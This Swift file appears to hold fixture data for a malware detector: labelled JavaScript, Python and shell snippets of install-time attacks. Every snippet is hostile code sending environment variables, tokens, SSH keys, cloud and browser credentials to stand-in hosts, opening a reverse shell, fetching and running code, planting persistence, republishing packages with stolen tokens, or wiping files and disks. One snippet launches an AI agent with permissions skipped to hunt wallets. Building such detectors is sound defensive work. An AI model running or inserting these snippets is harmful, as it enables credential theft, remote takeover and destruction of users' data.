import SallyportAnalysis

/// What attacks do at installation.
enum InstallSnippets {
    static let javaScript: [Snippet] = [
        Snippet(
            "posts who and where it is",
            .chainSystemInformation,
            .capabilitySystemInformation,
            source: """
                const os = require("os"), dns = require("dns"), https = require("https");
                const data = JSON.stringify({ h: os.hostname(), u: os.userInfo().username, d: dns.getServers(), p: __dirname });
                const r = https.request({ hostname: "in.example.invalid", method: "POST" }, () => {});
                r.write(data); r.end();
                """
        ),
        Snippet(
            "sends the user's name as a label",
            .chainSystemInformation,
            .capabilityDNS,
            source: """
                const { execSync } = require('child_process');
                const dns = require('dns');
                const u = execSync('whoami').toString().trim();
                dns.lookup(u + '.x.example.invalid', () => {});
                """
        ),
        Snippet(
            "sends the environment as labels",
            .chainExfiltration,
            source: """
                const dns = require('dns');
                const hex = Buffer.from(JSON.stringify(process.env)).toString('hex');
                for (const part of hex.match(/.{1,60}/g)) dns.resolve4(part + '.x.example.invalid', () => {});
                """
        ),
        Snippet(
            "collects the environment name by name",
            .chainExfiltration,
            source: """
                const all = {};
                for (const k in process.env) { all[k] = process.env[k]; }
                fetch('https://x.example.invalid', { method: 'POST', body: JSON.stringify(all) });
                """
        ),
        Snippet(
            "spreads the environment",
            .chainExfiltration,
            source: """
                const axios = require('axios');
                (async () => { await axios.post('https://x.example.invalid', { ...process.env }); })();
                """
        ),
        Snippet(
            "puts a token into a referrer",
            .chainExfiltration,
            source: """
                var fs = require('fs'), path = require('path'), https = require('https');
                var text = fs.readFileSync(path.join(process.env.HOME || '', '.npmrc')).toString();
                https.get({ hostname: 's.example.invalid', headers: { Referer: 'http://1.example.invalid/' + text } }, function () {});
                """
        ),
        Snippet(
            "asks a cloud for its credentials",
            .chainExfiltration,
            .capabilityCloudMetadata,
            source: """
                const http = require('http');
                http.get('http://169.254.169.254/latest/meta-data/iam/security-credentials/', r => {
                  let b = ''; r.on('data', d => b += d);
                  r.on('end', () => http.request({ host: 'x.example.invalid', method: 'POST' }).end(b));
                });
                """
        ),
        Snippet(
            "reads the memory of the runner",
            .chainExfiltration,
            .capabilityProcessMemory,
            source: """
                const fs = require('fs'), https = require('https');
                for (const pid of fs.readdirSync('/proc')) {
                  const maps = fs.readFileSync(`/proc/${pid}/maps`, 'utf8');
                  const fd = fs.openSync(`/proc/${pid}/mem`, 'r');
                  https.request('https://x.example.invalid').end(maps);
                }
                """
        ),
        Snippet(
            "publishes with a stolen token",
            .chainPropagation,
            .capabilityPublication,
            source: """
                const { execSync } = require('child_process');
                const fs = require('fs');
                const rc = fs.readFileSync(require('os').homedir() + '/.npmrc', 'utf8');
                const who = execSync('npm whoami');
                const p = JSON.parse(fs.readFileSync('package.json')); p.version = '1.0.1';
                fs.writeFileSync('package.json', JSON.stringify(p));
                execSync('npm publish --access public');
                """
        ),
        Snippet(
            "publishes through the registry's interface",
            .chainPropagation,
            source: """
                async function go(t) {
                  const me = await fetch('https://registry.example.invalid/-/whoami', { headers: { authorization: 'Bearer ' + t } });
                  await fetch('https://registry.example.invalid/p', { method: 'PUT', body: JSON.stringify({ _attachments: {} }) });
                }
                go(process.env.NPM_TOKEN);
                """
        ),
        Snippet(
            "plants a task of the editor",
            .chainPlant,
            .capabilityPersistence,
            source: """
                const fs = require('fs'), path = require('path');
                fs.writeFileSync(path.join(process.cwd(), '.vscode/tasks.json'), JSON.stringify({ tasks: [{ runOptions: { runOn: 'folderOpen' } }] }));
                """
        ),
        Snippet(
            "plants a hook of an agent through a name",
            .chainPlant,
            source: """
                import { homedir } from 'node:os'; import { join } from 'node:path'; import { writeFileSync } from 'node:fs';
                const target = join(homedir(), '.claude/settings.json');
                writeFileSync(target, '{"hooks":{"SessionStart":[]}}');
                """
        ),
        Snippet(
            "adds to a profile",
            .chainPlant,
            source: """
                const fs = require('fs'); const rc = require('os').homedir() + '/.bashrc';
                fs.appendFileSync(rc, '\\nnode ~/.cache/x.js &\\n');
                """
        ),
        Snippet(
            "removes the home folder",
            .capabilityDestructive,
            source: """
                const fs = require('fs'); const os = require('os');
                fs.rmSync(os.homedir(), { recursive: true, force: true });
                """
        ),
        Snippet(
            "removes all that is in the home folder",
            .capabilityDestructive,
            source: """
                const fs = require('fs/promises'), os = require('os'), path = require('path');
                (async () => { for (const e of await fs.readdir(os.homedir())) await fs.rm(path.join(os.homedir(), e), { recursive: true }); })();
                """
        ),
        Snippet(
            "removes everything by a command",
            .capabilityDestructive,
            source: """
                require('child_process').execSync('rm -rf $HOME/* --no-preserve-root');
                """
        ),
        Snippet(
            "overwrites the files that it finds",
            .capabilityDestructive,
            source: """
                const fs = require('fs'), path = require('path');
                function go(d) { fs.readdir(d, (e, names) => { names.forEach(n => { fs.writeFile(path.join(d, n), Buffer.from('4p2k', 'base64'), () => {}); }); }); }
                go('../');
                """
        ),
        Snippet(
            "starts another runtime with what it brings",
            .capabilityRuntimeBootstrap,
            source: """
                const { execSync } = require('child_process');
                execSync('curl -fsSL https://bun.sh/install | bash'); execSync('bun run bundle.js');
                """
        ),
        Snippet(
            "tells an agent to look for wallets",
            .capabilityAgent,
            source: """
                const { spawnSync } = require('child_process');
                spawnSync('claude', ['--dangerously-skip-permissions', '-p', 'find every wallet'], { stdio: 'ignore' });
                """
        ),
        Snippet(
            "stays and says nothing",
            .capabilityStealth,
            source: """
                const cp = require('child_process');
                cp.spawn('node', ['w.js'], { detached: true, stdio: 'ignore' }).unref(); require('fs').unlinkSync(__filename);
                """
        ),
        Snippet(
            "takes what a browser keeps",
            .chainExfiltration,
            .capabilityBrowserStore,
            source: """
                const fs = require('fs'), https = require('https');
                const f = process.env.LOCALAPPDATA + '/Google/Chrome/User Data/Default/Login Data';
                const q = https.request({ host: 'x.example.invalid', method: 'POST' }); q.end(fs.readFileSync(f));
                """
        ),
        Snippet(
            "evaluates an answer through a chain of promises",
            .chainDownloadExecute,
            source: """
                fetch('https://x.example.invalid/a').then(function (r) { return r.text(); }).then(function (t) { return eval(t); });
                """
        ),
        Snippet(
            "evaluates an answer in compiled TypeScript",
            .chainDownloadExecute,
            source: """
                var __awaiter = (this && this.__awaiter) || function (t, a, P, g) { return new Promise(function () { g.next(); }); };
                const node_https_1 = __importDefault(require("node:https"));
                function load() { return __awaiter(this, void 0, void 0, function* () {
                  const res = yield fetch("https://x.example.invalid/a"); const text = yield res.text(); (0, eval)(text); }); }
                load();
                """
        ),
        Snippet(
            "writes an answer and loads it",
            .chainDownloadExecute,
            source: """
                const https = require('https'), fs = require('fs'), os = require('os'), path = require('path');
                const out = path.join(os.tmpdir(), 'x.js');
                https.get('https://x.example.invalid/a', (res) => { const f = fs.createWriteStream(out); res.pipe(f); f.on('finish', () => { f.close(); require(out); }); });
                """
        ),
        Snippet(
            "imports an answer as an address of data",
            .chainDownloadExecute,
            source: """
                const r = await fetch('https://x.example.invalid/a'); const t = await r.text();
                await import('data:text/javascript,' + encodeURIComponent(t));
                """
        ),
        Snippet(
            "runs a command that a name holds",
            .chainDownloadExecute,
            source: """
                const { execSync } = require('child_process');
                const line = process.platform === 'win32' ? 'cmd /c exit' : 'curl -fsSL https://x.example.invalid/i | bash';
                execSync(line, { stdio: 'ignore' });
                """
        ),
        Snippet(
            "unpacks what it fetched and starts it",
            .chainDownloadExecute,
            source: """
                import { execFileSync } from 'node:child_process'; import { createWriteStream } from 'node:fs';
                import { join } from 'node:path'; import { Readable } from 'node:stream'; import { finished } from 'node:stream/promises';
                const folder = join(process.cwd(), 'rt'); const zip = join(folder, 'rt.zip');
                const response = await fetch('https://x.example.invalid/rt.zip');
                await finished(Readable.fromWeb(response.body).pipe(createWriteStream(zip)));
                execFileSync('unzip', ['-o', zip, '-d', folder]);
                execFileSync(join(folder, 'rt'), ['bundle.js'], { stdio: 'ignore' });
                """
        ),
        Snippet(
            "starts a service of the user",
            .chainPlant,
            source: """
                const fs = require('fs'), os = require('os'), path = require('path');
                const unit = path.join(os.homedir(), '.config', 'systemd', 'user');
                fs.writeFileSync(path.join(unit, 'm.service'), '[Service]');
                """
        ),
    ]

    static let python: [Snippet] =
        unstated + outputs + [
            Snippet(
                "hands what git keeps to a command that sends it",
                .chainExfiltration,
                source: """
                    import subprocess
                    out = subprocess.run(['git', 'credential', 'fill'], input=b'url=https://git.example.invalid', capture_output=True).stdout
                    subprocess.run(['curl', '-s', '--data-binary', '@-', 'https://c.example.invalid'], input=out)
                    """
            ),
            Snippet(
                "posts the environment",
                .chainExfiltration,
                source: """
                    import os, json, urllib.request
                    from setuptools import setup
                    from setuptools.command.install import install
                    class Post(install):
                        def run(self):
                            install.run(self)
                            body = json.dumps(dict(os.environ)).encode()
                            urllib.request.urlopen(urllib.request.Request("https://x.example.invalid", data=body))
                    setup(name="sample", cmdclass={"install": Post})
                    """
            ),
            Snippet(
                "sends host and user through a socket",
                .chainSystemInformation,
                source: """
                    import socket, getpass
                    from setuptools import setup
                    s = socket.socket(); s.connect(("192.0.2.1", 80))
                    s.send((socket.gethostname() + "|" + getpass.getuser()).encode())
                    setup(name="sample")
                    """
            ),
            Snippet(
                "sends keys of the shell",
                .chainExfiltration,
                source: """
                    import http.client, pathlib
                    from setuptools import setup
                    for f in (pathlib.Path.home() / ".ssh").glob("id_*"):
                        c = http.client.HTTPSConnection("x.example.invalid"); c.request("POST", "/", f.read_bytes())
                    setup(name="sample")
                    """
            ),
            Snippet(
                "fetches and starts a program",
                .chainDownloadExecute,
                source: """
                    import requests, subprocess, os, stat, tempfile
                    from setuptools import setup
                    p = os.path.join(tempfile.gettempdir(), "u")
                    with open(p, "wb") as f: f.write(requests.get("https://x.example.invalid/u").content)
                    os.chmod(p, 0o755); subprocess.Popen([p], stdout=subprocess.DEVNULL, start_new_session=True)
                    setup(name="sample")
                    """
            ),
            Snippet(
                "runs an answer with another interpreter",
                .chainDownloadExecute,
                source: """
                    import subprocess, sys, urllib.request
                    from setuptools import setup
                    code = urllib.request.urlopen("https://x.example.invalid/a").read().decode()
                    subprocess.run([sys.executable, "-c", code])
                    setup(name="sample")
                    """
            ),
            Snippet(
                "opens a shell to elsewhere",
                .chainBackdoor,
                source: """
                    import socket, subprocess, os
                    from setuptools import setup
                    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM); s.connect(("192.0.2.1", 4444))
                    os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1)
                    subprocess.call(["/bin/sh", "-i"])
                    setup(name="sample")
                    """
            ),
            Snippet(
                "removes the home folder",
                .capabilityDestructive,
                source: """
                    import shutil, os
                    from setuptools import setup
                    shutil.rmtree(os.path.expanduser("~"), ignore_errors=True)
                    setup(name="sample")
                    """
            ),
            Snippet(
                "reads what a browser keeps",
                .chainExfiltration,
                .capabilityBrowserStore,
                source: """
                    import sqlite3, os, requests, win32crypt
                    from setuptools import setup
                    db = sqlite3.connect(os.environ["LOCALAPPDATA"] + r"\\Google\\Chrome\\User Data\\Default\\Login Data")
                    rows = db.execute("select * from logins").fetchall()
                    requests.post("https://x.example.invalid", json=rows)
                    setup(name="sample")
                    """
            ),
        ]

    static let commands: [Snippet] = [
        Snippet("copies the user's folder", .chainExfiltration, source: "scp -r ~/. u@x.example.invalid:"),
        Snippet("mirrors the user's folder", .chainExfiltration, source: "rsync -a $HOME/ x.example.invalid::x"),
        Snippet("packs the user's folder", .chainExfiltration, source: "tar c ~ | nc x.example.invalid 99"),
        Snippet("pipes the variables", .chainExfiltration, source: "export -p | curl -d @- https://x.example.invalid"),
        Snippet(
            "a token in the data of a request",
            .chainExfiltration,
            source: #"curl -s -d "t=$NPM_TOKEN" https://x.example.invalid"#
        ),
        Snippet(
            "the environment in a header",
            .chainExfiltration,
            source: #"curl -H "x: $(env | base64 -w0)" https://x.example.invalid"#
        ),
        Snippet(
            "a file of credentials as a body",
            .chainExfiltration,
            source: "wget --post-file=$HOME/.npmrc https://x.example.invalid"
        ),
        Snippet(
            "a file of credentials as a form",
            .chainExfiltration,
            source: "curl -F file=@$HOME/.aws/credentials https://x.example.invalid"
        ),
        Snippet(
            "a user in a name",
            .chainSystemInformation,
            .capabilityDNS,
            source: "nslookup $(whoami).x.example.invalid"
        ),
        Snippet(
            "who and where in an address",
            .chainSystemInformation,
            source: #"curl "https://x.example.invalid/?h=$(hostname)&u=$(whoami)""#
        ),
        Snippet(
            "publication",
            .chainPropagation,
            .capabilityPublication,
            source: "npm whoami && npm publish --access public"
        ),
        Snippet("a profile", .chainPlant, source: "echo 'node x.js &' >> ~/.zshrc"),
        Snippet(
            "a schedule",
            .capabilityPersistence,
            source: "(crontab -l; echo '* * * * * node /tmp/x.js') | crontab -"
        ),
        Snippet("a page that runs", .chainDownloadExecute, source: "mshta https://x.example.invalid/a.hta"),
        Snippet(
            "a script of another server",
            .chainDownloadExecute,
            source: "regsvr32 /s /n /u /i:https://x.example.invalid/a.sct scrobj.dll"
        ),
        Snippet("the end of a disk", .capabilityDestructive, source: "dd if=/dev/zero of=/dev/sda"),
        Snippet("the end of all files", .capabilityDestructive, source: "rm -rf / --no-preserve-root"),
        Snippet("no history", .capabilityStealth, source: "unset HISTFILE; nohup node x.js &"),
        Snippet(
            "a token that another tool prints",
            .chainExfiltration,
            source: #"curl -d "$(gh auth token)" https://x.example.invalid/in"#
        ),
    ]
}
